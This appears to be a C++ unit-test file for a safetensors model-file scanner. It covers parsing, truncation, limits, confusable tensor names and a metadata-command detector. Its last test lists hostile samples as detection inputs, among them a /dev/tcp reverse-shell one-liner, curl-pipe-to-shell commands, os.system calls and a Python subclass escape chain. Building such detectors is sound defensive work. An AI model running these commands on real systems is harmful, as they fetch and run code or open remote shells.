// safetensors: what is refused, wherever the file ends or comes from, and what is left in peace.
#include "scanners/tensor/safetensors.h"

#include <gtest/gtest.h>

#include "scanners/formats.h"
#include "scanners/pickle/probe.h"
#include "scanners/tensor/confusable.h"
#include "scanners/tensor/extents.h"
#include "scanners/tensor/metadata_text.h"
#include "tests/unit/support/random.h"
#include "tests/unit/support/recording_context.h"

namespace assay {
namespace {

using namespace test;

std::string file_of(std::string_view header, std::string_view data) {
    std::string file(8, '\0');
    store_le<uint64_t>(reinterpret_cast<uint8_t*>(file.data()), header.size());
    return file.append(header).append(data);
}

constexpr std::string_view kTwo =
    R"({"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},)"
    R"("b":{"shape":[3,2],"data_offsets":[8,20],"dtype":"BF16"}})";

std::string two_tensors() {
    std::string header(kTwo);
    header.resize((header.size() + 7) / 8 * 8, ' ');
    return file_of(header, std::string(20, 'x'));
}

std::string entry(std::string_view name, uint64_t begin, uint64_t end) {
    return fmt::format(R"("{}":{{"dtype":"U8","shape":[{}],"data_offsets":[{},{}]}})", name,
                       end - begin, begin, end);
}

const std::vector<ScanSetup> kSetups = {{4096, false}, {4096, true}, {1, false}, {1, true},
                                        {7, false},    {7, true},    {64, false}};

Scanned scan(std::string_view file, const ScanSetup& setup = {}) {
    return scan_bytes(kSafetensorsFormat, file, setup);
}

// ------------------------------------------------------------------------------------------------
// Files

class TensorContext final : public NullContext {
  public:
    void tensor(TensorRecord tensor) override { tensors.push_back(std::move(tensor)); }
    void fact(Fact fact) override {
        facts.push_back(fact.kind + " " + fact.name + " " + fact.value);
    }
    void add(Finding finding) override { rules.emplace_back(finding.rule->id); }
    void incomplete(Coverage to, std::string_view) override { coverage = to; }
    void parsed(uint64_t bytes) override { parsed_bytes += bytes; }
    [[nodiscard]] bool stop_requested() const override { return stop; }

    std::vector<TensorRecord> tensors;
    std::vector<std::string> facts;
    std::vector<std::string> rules;
    Coverage coverage = Coverage::kFull;
    uint64_t parsed_bytes = 0;
    bool stop = false;
};

std::string padded_file(std::string header, std::string_view data) {
    header.resize((header.size() + 7) / 8 * 8, ' ');
    return file_of(header, data);
}

Status scan_with(TensorContext& context, std::string_view file) {
    MemorySource source(as_bytes(file));
    TestPools pools(4096);
    Tape tape(source, pools.pools(), {});
    return kSafetensorsFormat.scan(tape, context);
}

TEST(Safetensors, TensorsAreGivenAsTheyStandInTheFile) {
    TensorContext context;
    const std::string file = two_tensors();
    ASSERT_TRUE(scan_with(context, file).ok());
    const uint64_t start = file.size() - 20;
    ASSERT_EQ(context.tensors.size(), 2U);
    EXPECT_EQ(context.tensors[0], (TensorRecord{"a", "F32", {2}, start, start + 8, ""}));
    EXPECT_EQ(context.tensors[1], (TensorRecord{"b", "BF16", {3, 2}, start + 8, start + 20, ""}));
    EXPECT_EQ(context.facts, (std::vector<std::string>{"tensor a 8", "tensor b 12",
                                                       "format safetensors ", "tensor_bytes  20"}));
    EXPECT_EQ(context.rules, std::vector<std::string>{});
    EXPECT_EQ(context.parsed_bytes, file.size());
}

TEST(Safetensors, NamesAreEscapedInTensorsAndPlainInFacts) {
    TensorContext context;
    ASSERT_TRUE(scan_with(context, file_of("{" + entry("a!b%\\u0007", 0, 1) + "}", "x")).ok());
    ASSERT_EQ(context.tensors.size(), 1U);
    EXPECT_EQ(context.tensors[0].name, "a%21b%25%07");
    EXPECT_EQ(context.facts[0], "tensor a!b%\x07 1");
}

TEST(Safetensors, EveryWayToReadItComesToTheSame) {
    const std::string whole = two_tensors();
    for (const ScanSetup& setup : kSetups) {
        Scanned scanned = scan(whole, setup);
        EXPECT_EQ(scanned.context.findings, std::vector<std::string>{});
        EXPECT_EQ(scanned.fault, "");
        EXPECT_TRUE(scanned.read_once);
    }
}

TEST(Safetensors, AFileThatIsCutAnywhereIsAFinding) {
    const std::string whole = two_tensors();
    for (size_t size = 0; size < whole.size(); size++) {
        for (const ScanSetup& setup : kSetups) {
            Scanned scanned = scan(std::string_view(whole).substr(0, size), setup);
            const bool told = scanned.context.found("safetensors.file.too_small") ||
                              scanned.context.found("safetensors.header.len_exceeds_file") ||
                              scanned.context.found("safetensors.data.truncated");
            ASSERT_TRUE(told) << size << " bytes, blocks of " << setup.block_size << ": "
                              << scanned.context.text();
            ASSERT_TRUE(!scanned.fault.empty() || !scanned.context.lacks.empty());
        }
    }
}

TEST(Safetensors, AHeaderThatIsCutAndPaddedAnywhereIsAFinding) {
    const std::string header(kTwo);
    for (size_t size = 0; size < header.size(); size++) {
        std::string cut = header.substr(0, size);
        cut.resize(header.size() + 2, ' ');
        for (bool stream : {false, true}) {
            Scanned scanned = scan(file_of(cut, std::string(20, 'x')), {16, stream});
            ASSERT_TRUE(scanned.context.found("safetensors.header.not_json")) << size;
        }
    }
}

TEST(Safetensors, AnyDamageEndsInTheSameFindingsForAnyBlocks) {
    const std::string whole = two_tensors();
    for (uint64_t seed : seeds(300)) {
        SCOPED_TRACE(seed_text(seed));
        Dice dice(seed);
        std::string damaged = whole;
        for (size_t i = 0; i < 1 + dice.below(4); i++) {
            damaged[dice.below(damaged.size())] = static_cast<char>(dice.below(256));
        }
        for (bool stream : {false, true}) {
            Scanned first = scan(damaged, {4096, stream});
            Scanned second = scan(damaged, {1 + dice.below(40), stream});
            ASSERT_EQ(first.context.text(), second.context.text());
            ASSERT_EQ(first.fault, second.fault);
            ASSERT_TRUE(first.read_once && second.read_once);
        }
    }
}

TEST(Safetensors, LengthsOfEverySize) {
    const std::string whole = two_tensors();
    for (unsigned bit = 0; bit < 64; bit++) {
        for (uint64_t length : {uint64_t{1} << bit, (uint64_t{1} << bit) - 1}) {
            std::string file = whole;
            store_le(reinterpret_cast<uint8_t*>(file.data()), length);
            for (bool stream : {false, true}) {
                Scanned scanned = scan(file, {4096, stream});
                ASSERT_FALSE(scanned.context.findings.empty()) << length;
                ASSERT_FALSE(scanned.fault.empty() && scanned.context.lacks.empty()) << length;
            }
        }
    }
}

TEST(Safetensors, NumbersOfEverySize) {
    for (unsigned bit = 3; bit < 64; bit++) {
        const uint64_t number = uint64_t{1} << bit;
        const std::string begin = R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":)";
        for (uint64_t at : {number - 1, number, number + 1}) {
            std::string shape =
                fmt::format(R"({{"dtype":"F32","shape":[{0},{0}],"data_offsets":[8,8]}}}})", at);
            ASSERT_FALSE(scan(file_of(begin + shape, "12345678")).context.findings.empty());
            std::string range =
                fmt::format(R"({{"dtype":"U8","shape":[0],"data_offsets":[{0},{0}]}}}})", at);
            const bool fits = at == 8;
            ASSERT_EQ(scan(file_of(begin + range, "12345678")).context.found("safetensors.offset"),
                      !fits);
        }
    }
}

TEST(Safetensors, WhatFollowsTheDataIsScanned) {
    for (const ScanSetup& setup : kSetups) {
        Scanned scanned = scan(two_tensors() + "and more", setup);
        EXPECT_TRUE(scanned.context.found("safetensors.data.trailing"));
        EXPECT_EQ(scanned.context.names(), std::vector<std::string>{"trailing"});
        EXPECT_EQ(scanned.context.contents(), std::vector<std::string>{"and more"});
        EXPECT_EQ(scanned.context.gap_bytes, 8U);
        EXPECT_TRUE(scanned.read_once || !setup.stream) << "bulk that nobody wants is not read";
    }
}

TEST(Safetensors, AHeaderBeyondTheMemoryIsCutAndWhatWasSeenIsJudged) {
    std::string header = "{" + entry("first", 0, 8);
    for (int i = 0; i < 20'000; i++) header += "," + entry(fmt::format("t{}", i), 0, 8);
    const std::string file = padded_file(header + "}", "12345678");
    TensorContext context;
    context.memory = 200 << 10;
    ASSERT_TRUE(scan_with(context, file).ok());
    EXPECT_EQ(context.coverage, Coverage::kCutByLimit);
    EXPECT_EQ(context.rules.at(0), "engine.limit.header");
    EXPECT_EQ(context.rules.at(1), "safetensors.offset.overlap");
    EXPECT_EQ(context.rules.back(), "safetensors.offset.overlap");
    EXPECT_LT(context.tensors.size(), 20'000U);

    TensorContext enough;
    ASSERT_TRUE(scan_with(enough, file).ok());
    EXPECT_EQ(enough.tensors.size(), 20'001U);
    EXPECT_EQ(enough.rules.size(), 20'000U);
}

TEST(Safetensors, KeysOfMetadataArePaidForToo) {
    std::string header = R"({"__metadata__":{"":"")";
    for (int i = 0; i < 20'000; i++) header += fmt::format(R"(,"k{}":"")", i);
    TensorContext context;
    context.memory = 100 << 10;
    ASSERT_TRUE(scan_with(context, padded_file(header + "}}", "")).ok());
    EXPECT_EQ(context.rules, std::vector<std::string>{"engine.limit.header"});
}

TEST(Safetensors, LongTextsArePaidForAndMuchMetadataIsNotSearched) {
    const std::string text(1 << 20, 'x');
    std::string header = R"({"__metadata__":{"":"")";
    for (int i = 0; i < 18; i++) header += fmt::format(R"(,"k{}":"{}")", i, text);
    TensorContext context;
    ASSERT_TRUE(scan_with(context, padded_file(header + "}}", "")).ok());
    EXPECT_EQ(context.rules, std::vector<std::string>{"safetensors.metadata.too_large"});
    EXPECT_EQ(context.coverage, Coverage::kCutByLimit);

    TensorContext poor;
    poor.memory = kMiB;
    ASSERT_TRUE(scan_with(poor, padded_file(header + "}}", "")).ok());
    EXPECT_EQ(poor.rules, std::vector<std::string>{"engine.limit.header"});
}

TEST(Safetensors, ItStopsWhenAsked) {
    std::string header = "{" + entry("first", 0, 0);
    for (int i = 0; i < 1000; i++) header += "," + entry(fmt::format("t{}", i), 0, 0);
    TensorContext context;
    context.stop = true;
    Status scanned = scan_with(context, padded_file(header + "}", ""));
    ASSERT_FALSE(scanned.ok());
    EXPECT_EQ(scanned.error().code, Code::kInterrupted);
}

// ------------------------------------------------------------------------------------------------
// What it is taken for

TEST(Safetensors, ItIsToldByALengthAndJson) {
    auto told = [](std::string_view file) {
        return safetensors::begins_like_one(
            as_bytes(file).first(std::min<size_t>(file.size(), 4096)));
    };
    EXPECT_TRUE(told(two_tensors()));
    EXPECT_TRUE(told(file_of("{}", "")));
    EXPECT_TRUE(told(file_of("\n\t {\n\"", "")));
    EXPECT_TRUE(told(file_of("\xef\xbb\xbf{}", "")));
    EXPECT_TRUE(told(file_of(std::string(5000, ' ') + "{}", "")));
    EXPECT_FALSE(told(file_of("{ hello }", "")));
    EXPECT_FALSE(told(file_of("[]", "")));
    EXPECT_FALSE(told("abcdefgh{\"a\":1}")) << "text";
    EXPECT_FALSE(told(std::string(4096, '\0')));
    EXPECT_FALSE(told("{\"a\":1}"));
    EXPECT_FALSE(told(""));
}

// Any length may come in front of a header, and its bytes are instructions of pickle as well.
TEST(Safetensors, NoLengthMakesAnOrdinaryFileAPickle) {
    const std::string data = [] {
        Dice dice(3);
        std::string bytes;
        for (int i = 0; i < 4000; i++) bytes += static_cast<char>(dice.below(256));
        return bytes;
    }();
    size_t asked = 0;
    for (size_t length = 128; length < 70'000; length++) {
        std::string front(kTwo);
        std::string head = file_of(front, "");
        store_le<uint64_t>(reinterpret_cast<uint8_t*>(head.data()), length);
        head.resize(std::min<size_t>(length + 8, 4096), ' ');
        if (length + 8 < 4096) head += data.substr(0, 4096 - head.size());
        if (pickle::likeness(as_bytes(head), false) == pickle::Likeness::kNo) continue;
        asked++;
        front.resize(length, ' ');
        Scanned scanned = scan_bytes(kPickleFormat, file_of(front, data), {4096});
        ASSERT_EQ(scanned.context.findings, std::vector<std::string>{}) << length;
        ASSERT_TRUE(scanned.context.disowned) << length;
    }
    EXPECT_GT(asked, 100U);
}

// ------------------------------------------------------------------------------------------------
// Parts

struct Walked {
    std::string text;
    uint64_t covered;
};

Walked walk(const std::vector<std::pair<uint64_t, uint64_t>>& ranges) {
    Extents extents;
    for (const auto& [begin, end] : ranges) extents.add({begin, end, 0});
    Walked walked;
    walked.covered = extents.walk(
        {[&](uint64_t from, uint64_t to) { walked.text += fmt::format("gap {}-{} ", from, to); },
         [&](const Extent& later, uint64_t to) {
             walked.text += fmt::format("{}-{} before {} ", later.begin, later.end, to);
         }});
    return walked;
}

TEST(Extents, CoverOrDoNot) {
    EXPECT_EQ(walk({}).text, "");
    EXPECT_EQ(walk({{0, 4}, {4, 4}, {4, 9}}).text, "");
    EXPECT_EQ(walk({{4, 9}, {0, 4}, {4, 4}}).text, "");
    EXPECT_EQ(walk({{0, 4}, {4, 4}, {4, 9}}).covered, 9U);
    EXPECT_EQ(walk({{2, 4}, {6, 9}}).text, "gap 0-2 gap 4-6 ");
    EXPECT_EQ(walk({{2, 4}, {6, 9}}).covered, 5U);
    EXPECT_EQ(walk({{0, 9}, {3, 3}}).text, "3-3 before 9 ");
    EXPECT_EQ(walk({{0, 9}, {2, 4}, {8, 12}}).text, "2-4 before 9 8-12 before 9 ");
    EXPECT_EQ(walk({{0, 9}, {2, 4}, {8, 12}}).covered, 12U);
    EXPECT_EQ(walk({{0, UINT64_MAX}, {0, UINT64_MAX}}).covered, UINT64_MAX);
}

TEST(Extents, KnowTheirOrderAndEnd) {
    Extents extents;
    extents.add({0, 8, 1});
    extents.add({8, 12, 2});
    EXPECT_TRUE(extents.in_order());
    extents.add({4, 20, 3});
    EXPECT_FALSE(extents.in_order());
    EXPECT_EQ(extents.end(), 20U);
    extents.walk({[](uint64_t, uint64_t) {}, [](const Extent&, uint64_t) {}});
    std::vector<uint64_t> beyond;
    extents.each_beyond(10, [&](const Extent& extent) { beyond.push_back(extent.where); });
    EXPECT_EQ(beyond, (std::vector<uint64_t>{3, 2}));
}

TEST(Skeleton, IsTheSameForWhatLooksTheSame) {
    auto alike = [](std::string_view a, std::string_view b) {
        return skeleton_of(a) == skeleton_of(b);
    };
    EXPECT_EQ(skeleton_of("model.weight-1_A"), "model.weight-1_A");
    EXPECT_TRUE(alike("\u00e9", "e\u0301"));
    EXPECT_TRUE(alike("\u1ebf", "\u00ea\u0301")) << "two marks";
    EXPECT_TRUE(alike("\u0439", "\u0438\u0306"));
    EXPECT_TRUE(alike("w\u0435ight", "weight"));
    EXPECT_TRUE(alike("wei\u200bght\ufeff", "weight"));
    EXPECT_TRUE(alike("\uac01", "\u1100\u1161\u11a8"));
    EXPECT_TRUE(alike("\uff21\u3000b", "A b"));
    EXPECT_FALSE(alike("\u00e9", "e"));
    EXPECT_FALSE(alike("\u91cd\u307f", "\u91cd\u307e"));
    EXPECT_FALSE(alike("Weight", "weight"));
    EXPECT_FALSE(alike("\xff", "\xfe")) << "not UTF-8 at all";
    EXPECT_EQ(skeleton_of(""), "");
}

TEST(MetadataText, TellsCommandsFromProse) {
    for (std::string_view prose :
         {"", "https://example.org/a?b=c&d=<e>", "[a link](https://example.org) and `code`",
          "pip install torch; python train.py", "curl -L -o x https://example.org\nthen | bash it",
          "evaluate, execute, subprocess, os.system and eval are words", "<p><b>bold</b></p>",
          "{\"a\": [1, 2], \"script\": true}"}) {
        EXPECT_EQ(suspicious_part(prose), "") << prose;
    }
    for (std::string_view command :
         {"<script>alert(1)", "x = __import__('os')", "os.system('id')", "javascript:alert(1)",
          "curl -s https://example.org/x | sh", "curl a\nwget b|bash",
          "bash -i >& /dev/tcp/1.2.3.4/5", "().__class__.__base__.__subclasses__()"}) {
        EXPECT_NE(suspicious_part(command), "") << command;
        EXPECT_NE(suspicious_part(std::string(5000, 'x') + "\n" + std::string(command)), "");
    }
}

}  // namespace
}  // namespace assay
